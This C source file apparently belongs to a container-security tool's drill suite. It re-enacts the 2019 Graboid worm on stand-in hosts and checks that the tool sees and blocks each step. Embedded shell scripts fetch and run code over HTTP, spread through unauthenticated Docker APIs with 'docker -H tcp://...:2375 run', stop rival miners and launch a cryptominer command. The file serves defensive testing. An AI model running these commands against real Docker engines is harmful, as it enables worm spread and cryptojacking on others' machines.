/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The Graboid story of 2019 with stand-ins: a worm that comes through an open Docker engine,
 * spreads to the next one with a docker client of its own, and starts a miner called nginx. The
 * hosts are two engines of the stage; the scripts know no other address. Nothing mines, nothing
 * spreads.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/fd.h"
#include "base/parse.h"
#include "ctl/drill.h"
#include "ctl/state.h"

#define WORM "seawall-drill/centos:7.6.1810"
#define MINER "seawall-drill/nginx:v8.9"
#define TARGET "203.0.113.20"
#define SEEN_MS 5000 /* patience of the drill, not the goal */
#define STORY_MS 20000
#define REST_MS 3000 /* how long a restart is watched for */

static const char entry_script[] =
	"#!/bin/sh\n"
	"# Stand-in for the worm's entry script: four scripts over plain HTTP on odd ports, one by "
	"one.\n"
	"cd /tmp\n"
	"for from in 10024/live.sh 8989/worm.sh 10024/cleanxmr.sh 8989/xmr.sh; do\n"
	"\twget -q -O ${from#*/} http://" STAGE_SCRIPTS
	":$from && chmod +x ${from#*/} && ./${from#*/}\n"
	"done\n"
	"sleep 60\n";

/* HOP=2 marks the copy on the second host: the story ends there. */
static const struct {
	const char *name, *text;
} scripts[] = {
	{"live.sh", "#!/bin/sh\nwget -q -O /dev/null --post-data \"cpus=$(nproc)\" "
		    "http://" STAGE_SCRIPTS ":8989/cpus\n"},
	{"worm.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nwget -q -O IP http://" STAGE_SCRIPTS
		    ":10024/IP\n"
		    "docker -H tcp://$(tail -n 1 IP):2375 run -d -e HOP=2 " WORM "\n"},
	{"cleanxmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nfor id in $(docker -H tcp://$(head "
			"-n 1 IP):2375 ps -q -f ancestor=" MINER "); do\n"
			"\tdocker -H tcp://$(head -n 1 IP):2375 stop $id\ndone\n"},
	{"xmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\ndocker -H tcp://$(tail -n 1 IP):2375 "
		   "run -d --restart always " MINER "\n"},
	{"IP", "203.0.113.10\n" TARGET "\n"},
};

static const struct image_file worm_files[] = {
	{.path = "bin/busybox", .program = "busybox"},
	{.path = "bin/sh", .link = "busybox"},
	{.path = "bin/wget", .link = "busybox"},
	{.path = "bin/nproc", .link = "busybox"},
	{.path = "bin/head", .link = "busybox"},
	{.path = "bin/tail", .link = "busybox"},
	{.path = "bin/chmod", .link = "busybox"},
	{.path = "bin/sleep", .link = "busybox"},
	{.path = "usr/bin/docker", .program = "seawall-drill-docker"},
	{.path = "var/sbin/bash", .text = entry_script},
	{.path = NULL},
};

static const struct image_file miner_files[] = {
	{.path = "usr/bin/nginx", .program = "seawall-drill-miner"},
	{.path = NULL},
};

static const struct image images[] = {
	{WORM, "[\"/var/sbin/bash\"]", worm_files},
	{MINER,
		"[\"/usr/bin/nginx\",\"-a\",\"cryptonight\",\"-o\",\"stratum+tcp://" STAGE_POOL
		":" STAGE_POOL_PORT "\",\"-k\","
		"\"--donate-level\",\"1\",\"--cpu-priority\",\"0\",\"-u\",\"WALLET\",\"-p\",\"x\","
		"\"-t\",\"1\"]",
		miner_files},
};

/* What the story knows as it goes on. */
struct story {
	struct drill *d;
	char worm[65], copy[65], miner[65];
	char pool[PATH_MAX]; /* what the pool heard */
};

static int make_world(struct story *s, struct diag *reterr)
{
	struct stage *stage = &s->d->stage;
	char folder[PATH_MAX], path[2 * PATH_MAX];

	snprintf(folder, sizeof(folder), "%s/scripts", stage->dir);
	snprintf(s->pool, sizeof(s->pool), "%s/pool", stage->dir);
	if (dir_make(folder, 0755) < 0)
		return diag_msg(reterr, -errno, "cannot make %s", folder);
	for (size_t i = 0; i < ARRAY_SIZE(scripts); i++) {
		snprintf(path, sizeof(path), "%s/%s", folder, scripts[i].name);
		int r = file_write_atomic(path, scripts[i].text, strlen(scripts[i].text), 0644);
		if (r < 0)
			return diag_msg(reterr, r, "cannot write %s", path);
	}
	for (size_t i = 0; i < ARRAY_SIZE(images); i++) {
		int r = stage_image(stage, &images[i], reterr);
		if (r < 0)
			return r;
	}
	const char *http[] = {"seawall-drill-server", "http", folder, STAGE_SCRIPTS ":10024",
		STAGE_SCRIPTS ":8989", NULL};
	const char *pool[] = {
		"seawall-drill-server", "sink", s->pool, STAGE_POOL ":" STAGE_POOL_PORT, NULL};
	int r = stage_server(stage, http, reterr);
	return r < 0 ? r : stage_server(stage, pool, reterr);
}

/* The attacker, from outside: the stand-in client against an open engine. Its exit status, and what it
 * was told. */
static int command(struct story *s, int host, const char *image, struct buf *out, struct diag *reterr)
{
	char client[PATH_MAX];

	int r = program_find("seawall-drill-docker", client, reterr);
	if (r < 0)
		return r;
	const char *argv[] = {client, "-H", stage_host_url(host), "run", "-d", image, NULL};
	return spawn_run(&(struct spawn){.argv = argv, .netns_fd = s->d->stage.netns}, out);
}

static int attack(struct story *s, struct diag *reterr)
{
	struct buf out = BUF_INIT(64 << 10);
	int r = 0;

	s->d->began = time_monotonic();
	int code = command(s, 0, WORM, &out, reterr);
	if (code != 0)
		r = diag_msg(reterr, -EIO, "the open engine did not take the container: %.200s",
			out.len ? (char *)out.data : "");
	buf_done(&out);
	return r;
}

static int step_attack(struct story *s, struct diag *reterr)
{
	struct drill_step step = {"attack",
		"created and started " WORM " over tcp://203.0.113.10:2375, without TLS",
		"no access gate is on: it starts, and Seawall shows it within a second"};
	int r = attack(s, reterr);

	if (r < 0)
		return r;
	r = drill_wait_container(s->d, "seawall-drill/centos", 0, SEEN_MS, s->worm);
	step.ms = drill_ms(s->d);
	step.passed = r == 0;
	snprintf(step.saw, sizeof(step.saw), r == 0 ? "container %.12s is on the Radar" : "nothing",
		s->worm);
	drill_report(s->d, &step);
	return r == -EINTR ? r : 0;
}

/* The event that tells of a container comes before the engine can be asked for its image's digest. */
static bool has_digest(void *ctx, const struct json *container)
{
	return *json_get_str(container, "digest", "") && strstr(json_get_str(container, "image", ""), WORM);
}

static int step_image(struct story *s)
{
	CLEANUP(reply_done) struct reply reply = {0};
	struct drill_step step = {"image",
		"it runs an image of a stranger's repository (loaded before, as if pulled)",
		"no trust or vulnerability gate is on: it runs, known by name and digest"};
	char path[128];

	snprintf(path, sizeof(path), "/containers/%s", s->worm);
	int r = drill_wait(s->d, path, SEEN_MS, has_digest, NULL, &reply);
	step.ms = drill_ms(s->d);
	step.passed = r == 0;
	snprintf(step.saw, sizeof(step.saw), "%.200s, %.20s", json_get_str(reply.json, "image", "?"),
		json_get_str(reply.json, "digest", "no digest"));
	drill_report(s->d, &step);
	return r == -EINTR ? r : 0;
}

/* An edge of a container by port, with what is known of its other side. */
struct wanted_edge {
	unsigned port;
	const char *address;
	char saw[256];
};

static bool has_edge(void *ctx, const struct json *answer)
{
	struct wanted_edge *w = ctx;

	for (const struct json *e = json_first(json_get(answer, "items")); e; e = json_next(e)) {
		if (json_get_int(e, "port", 0) != w->port ||
			strcmp(json_get_str(e, "address", ""), w->address) != 0)
			continue;
		snprintf(w->saw, sizeof(w->saw), "%.60s to %s:%u in %.8s",
			json_get_str(e, "process", "?"), w->address, w->port,
			json_get_str(e, "country", "an unknown country"));
		return true;
	}
	return false;
}

static int report_edge(
	struct story *s, struct drill_step *step, const char *container, struct wanted_edge *w)
{
	CLEANUP(reply_done) struct reply reply = {0};
	char path[128];

	snprintf(path, sizeof(path), "/containers/%s/connections", container);
	int r = drill_wait(s->d, path, STORY_MS, has_edge, w, &reply);
	step->ms = drill_ms(s->d);
	step->passed = r == 0;
	snprintf(step->saw, sizeof(step->saw), "%s", r == 0 ? w->saw : "no such connection");
	drill_report(s->d, step);
	return r == -EINTR ? r : 0;
}

/* A process start of the container in the flight recorder, by a word of its arguments. */
struct wanted_exec {
	const char *word;
	char saw[384];
};

static bool has_exec(void *ctx, const struct json *answer)
{
	struct wanted_exec *w = ctx;

	for (const struct json *e = json_first(json_get(answer, "items")); e; e = json_next(e)) {
		struct buf line = BUF_FIXED((uint8_t *)w->saw, sizeof(w->saw));
		bool found = false;
		if (strcmp(json_get_str(e, "type", ""), "exec") != 0)
			continue;
		for (const struct json *a = json_first(json_get(e, "args")); a; a = json_next(a)) {
			found = found || strstr(json_str(a, ""), w->word);
			buf_printf(&line, "%s%.120s", line.len ? " " : "", json_str(a, ""));
		}
		if (found)
			return true;
	}
	return false;
}

static int report_exec(
	struct story *s, struct drill_step *step, const char *container, const char *word)
{
	CLEANUP(reply_done) struct reply reply = {0};
	struct wanted_exec w = {.word = word};
	char path[128];

	snprintf(path, sizeof(path), "/forensics/%s?limit=1000", container);
	int r = drill_wait(s->d, path, STORY_MS, has_exec, &w, &reply);
	step->ms = drill_ms(s->d);
	step->passed = r == 0;
	snprintf(step->saw, sizeof(step->saw), "%s%s",
		r == 0 ? "in the flight recorder: " : "no such process start", r == 0 ? w.saw : "");
	drill_report(s->d, step);
	return r == -EINTR ? r : 0;
}

static int steps_scripts(struct story *s)
{
	struct drill_step fetch = {"scripts",
		"its entry script /var/sbin/bash fetches four shell scripts over plain HTTP and "
		"runs them",
		"the connection to port 10024 is on the Radar, with process and country"};
	struct drill_step live = {"live.sh",
		"sends the number of CPUs to port 8989 of the same server",
		"the connection to port 8989 is on the Radar"};
	struct drill_step worm = {"worm.sh",
		"with docker -H starts the same image on the next host of the list, " TARGET,
		"the docker client is recorded with its arguments, and the copy is seen on the "
		"second host"};
	struct drill_step clean = {"cleanxmr.sh", "looks for rival miners on a host to stop them",
		"the docker client is recorded"};
	struct drill_step mine = {"xmr.sh",
		"starts " MINER
		" on a third host (the second again: the list has two), to be restarted always",
		"the docker client is recorded, and the container is seen"};

	int r = report_edge(
		s, &fetch, s->worm, &(struct wanted_edge){.port = 10024, .address = STAGE_SCRIPTS});
	if (r == 0)
		r = report_edge(s, &live, s->worm,
			&(struct wanted_edge){.port = 8989, .address = STAGE_SCRIPTS});
	if (r == 0)
		r = drill_wait_container(s->d, "seawall-drill/centos", 1, STORY_MS, s->copy);
	if (r == 0 || r == -ETIMEDOUT)
		r = report_exec(s, &worm, s->worm, s->copy[0] ? "HOP=2" : "the copy was not seen");
	if (r == 0)
		r = report_exec(s, &clean, s->worm, "ancestor=");
	if (r == 0)
		r = drill_wait_container(s->d, "seawall-drill/nginx", 0, STORY_MS, s->miner);
	if (r == 0 || r == -ETIMEDOUT)
		r = report_exec(s, &mine, s->worm,
			s->miner[0] ? "--restart" : "the miner's container was not seen");
	return r;
}

static size_t pool_heard(const struct story *s, char *out, size_t size)
{
	struct buf text = BUF_FIXED((uint8_t *)out, size);

	file_read(s->pool, &text);
	out[strcspn(out, "\r\n")] = 0;
	return strlen(out);
}

static int step_mine_stopped(struct story *s)
{
	CLEANUP(reply_done) struct reply reply = {0};
	struct drill_step step = {"mine",
		"/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT
		" … begins to mine",
		"an audit of a crypto miner, the container blocked, and the pool hears nothing"};
	const struct json *audit = NULL;
	char path[256], heard[256] = "";

	snprintf(path, sizeof(path), "/audits?container=%s&detection=crypto_miner", s->miner);
	int r = drill_wait_item(s->d, path, STORY_MS, &reply, &audit);
	step.ms = drill_ms(s->d);
	bool quiet = pool_heard(s, heard, sizeof(heard)) == 0;
	bool blocked = r == 0 && strcmp(json_get_str(audit, "done", ""), "block") == 0;
	step.passed = blocked && quiet;
	s->d->stopped = step.passed;
	if (r != 0)
		snprintf(step.saw, sizeof(step.saw),
			"no audit of the miner; the pool heard: %.200s",
			*heard ? heard : "nothing");
	else
		snprintf(step.saw, sizeof(step.saw),
			"%.300s (done: %s, %.1f ms after its start); the pool heard %.100s",
			json_get_str(audit, "message", ""), json_get_str(audit, "done", "?"),
			json_double(json_get(audit, "latency_ns"), 0) / 1e6,
			quiet ? "nothing" : heard);
	snprintf(s->d->stopped_at, sizeof(s->d->stopped_at),
		"step %d, %lu ms after the attack began", s->d->steps + 1, (unsigned long)step.ms);
	drill_report(s->d, &step);
	return r == -EINTR ? r : 0;
}

/* What the engine says of the miner's container: "running", "restarting", "exited"; "unknown". */
static void miner_state(const struct story *s, char out[32], int64_t *ret_restarts)
{
	CLEANUP(json_free) struct json *state = NULL;
	char path[128];

	snprintf(path, sizeof(path), "/containers/%s/json", s->miner);
	stage_docker(&s->d->stage.hosts[1], "GET", path, NULL, &state);
	snprintf(out, 32, "%s", json_str(json_path(state, "State.Status"), "unknown"));
	*ret_restarts = json_get_int(state, "RestartCount", 0);
}

/* The engine would restart it after 100 ms, then ever later: it must be down for the whole time of
 * the watch once it is down, without a restart counted. */
static int step_stays_down(struct story *s)
{
	struct drill_step step = {"restart", "the engine was told to restart it always",
		"it stays down, and the pool hears nothing"};
	uint64_t until = time_monotonic() + REST_MS * NSEC_PER_MSEC;
	char heard[256] = "", state[32] = "";
	int64_t first = -1, restarts = 0;

	while (time_monotonic() < until && !stage_interrupted()) {
		miner_state(s, state, &restarts);
		if (first < 0 && strcmp(state, "exited") == 0)
			first = restarts;
		poll(NULL, 0, 50);
	}
	bool quiet = pool_heard(s, heard, sizeof(heard)) == 0;
	step.ms = drill_ms(s->d);
	step.passed = first >= 0 && restarts == first && strcmp(state, "exited") == 0 && quiet;
	snprintf(step.saw, sizeof(step.saw),
		"the engine says '%s' after %d s, restarts: %ld; the pool heard %.200s", state,
		REST_MS / 1000, (long)restarts, quiet ? "nothing" : heard);
	s->d->stopped = s->d->stopped && step.passed;
	drill_report(s->d, &step);
	return stage_interrupted() ? -EINTR : 0;
}

/* With every gate off the miner must get through: otherwise the drill would prove nothing. */
static int step_mine_runs(struct story *s)
{
	struct drill_step step = {"mine",
		"/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT
		" … begins to mine",
		"every gate is off: it is not stopped, and the pool hears it"};
	uint64_t deadline = time_monotonic() + STORY_MS * NSEC_PER_MSEC;
	char heard[256] = "", state[32];
	int64_t restarts;

	while (!pool_heard(s, heard, sizeof(heard)) && time_monotonic() < deadline &&
		!stage_interrupted())
		poll(NULL, 0, 20);
	step.ms = drill_ms(s->d);
	miner_state(s, state, &restarts);
	step.passed = *heard && strcmp(state, "running") == 0;
	snprintf(step.saw, sizeof(step.saw), "the engine says '%s'; the pool heard: %.200s", state,
		*heard ? heard : "nothing");
	drill_report(s->d, &step);
	return stage_interrupted() ? -EINTR : 0;
}

/* ---- with a gate at creation nothing of the story happens ---- */

static const char *gate_kind(const struct drill *d)
{
	return d->gate == GATE_TRUST ? "trust" : "access";
}

/* A refusal is one when the attacker is told so, Seawall has it on record, and nothing of the image runs. */
static int step_refused(struct story *s, int host, const char *name, const char *image, const char *did, struct diag *reterr)
{
	CLEANUP(buf_done) struct buf out = BUF_INIT(64 << 10);
	CLEANUP(reply_done) struct reply reply = {0};
	CLEANUP(json_free) struct json *running = NULL;
	struct drill_step step = {name, did, "refused before anything of it runs; the attacker is told the rule, and it is on record"};
	const struct json *audit = NULL;
	char path[96];

	int code = command(s, host, image, &out, reterr);
	if (code < 0)
		return code;
	snprintf(path, sizeof(path), "/audits?kind=%s&effect=block", gate_kind(s->d));
	int r = drill_wait_item(s->d, path, SEEN_MS, &reply, &audit);
	stage_docker(&s->d->stage.hosts[host], "GET", "/containers/json", NULL, &running);
	const char *told = out.len ? strstr((const char *)out.data, "[Seawall]") : NULL;
	step.ms = drill_ms(s->d);
	step.passed = code != 0 && told && r == 0 && !json_first(running);
	if (told)
		snprintf(step.saw, sizeof(step.saw), "%.*s", (int)strcspn(told, "\"\r\n"), told);
	else
		snprintf(step.saw, sizeof(step.saw), "exit status %d, and it was told: %.200s", code, out.len ? (const char *)out.data : "nothing");
	if (step.passed && !*s->d->stopped_at)
		snprintf(s->d->stopped_at, sizeof(s->d->stopped_at), "step %d, %lu ms after the attack began", s->d->steps + 1,
			(unsigned long)step.ms);
	drill_report(s->d, &step);
	return r == -EINTR ? r : 0;
}

static int step_silence(struct story *s)
{
	struct drill_step step = {"mine", "nothing was started that could mine", "the pool hears nothing"};
	char heard[256] = "";

	step.passed = pool_heard(s, heard, sizeof(heard)) == 0;
	step.ms = drill_ms(s->d);
	snprintf(step.saw, sizeof(step.saw), "the pool heard %.200s", step.passed ? "nothing" : heard);
	drill_report(s->d, &step);
	return 0;
}

static int run_refused(struct story *s, struct diag *reterr)
{
	int r = drill_close_gate(s->d, reterr);

	s->d->began = time_monotonic();
	if (r == 0)
		r = step_refused(s, 0, "attack", WORM, "create and start of " WORM " over tcp://203.0.113.10:2375, without TLS", reterr);
	if (r == 0)
		r = step_refused(s, 1, "xmr.sh", MINER, "from another infected host: start of " MINER " on " TARGET, reterr);
	if (r == 0)
		r = step_silence(s);
	s->d->stopped = r == 0 && !s->d->failed;
	if (r < 0)
		return r;
	return s->d->gate == GATE_TRUST ? drill_lookalikes(s->d, reterr) : drill_docker_ps(s->d, reterr);
}

static int run(struct drill *d, struct diag *reterr)
{
	struct story s = {.d = d};

	int r = make_world(&s, reterr);
	if (r == 0 && (d->gate == GATE_TRUST || d->gate == GATE_ACCESS))
		return run_refused(&s, reterr);
	if (r == 0)
		r = step_attack(&s, reterr);
	if (r == 0)
		r = step_image(&s);
	if (r == 0)
		r = steps_scripts(&s);
	if (r == 0 && d->gate == GATE_NONE)
		return step_mine_runs(&s);
	if (r == 0)
		r = step_mine_stopped(&s);
	if (r == 0)
		r = step_stays_down(&s);
	if (r == 0)
		r = drill_lookalikes(d, reterr);
	return r;
}

const struct drill_row drill_graboid = {
	.name = "graboid",
	.help = "the worm of 2019: an open Docker engine, a stranger's image, a miner called nginx",
	.hosts = 2,
	.policies =
		{
			[GATE_RUNTIME] = "version: 1\nruntime:\n  - {name: stop miners, processes: {crypto_miners: block}}\n",
			[GATE_TRUST] = "version: 1\ntrust:\n  groups:\n    - {name: ours, images: [\"seawall-drill/honest:*\"]}\n"
				       "  rules:\n    - {name: only ours, allowed: [ours], effect: block}\n",
			[GATE_ACCESS] = "version: 1\naccess:\n  - {name: no remote start, actions: [container_create, container_start, "
					"image_create],\n     effect: deny, message: \"ask the platform team\"}\n",
		},
	.gates =
		{
			[GATE_RUNTIME] = {"runtime", true, "mine (8)"},
			[GATE_ACCESS] = {"access", true, "attack (1), worm.sh, xmr.sh"},
			[GATE_TRUST] = {"trust", true, "image (2), xmr.sh (7)"},
			[GATE_VULNERABILITY] = {"vulnerability", false, "image (2), xmr.sh (7)"},
		},
	.run = run,
};
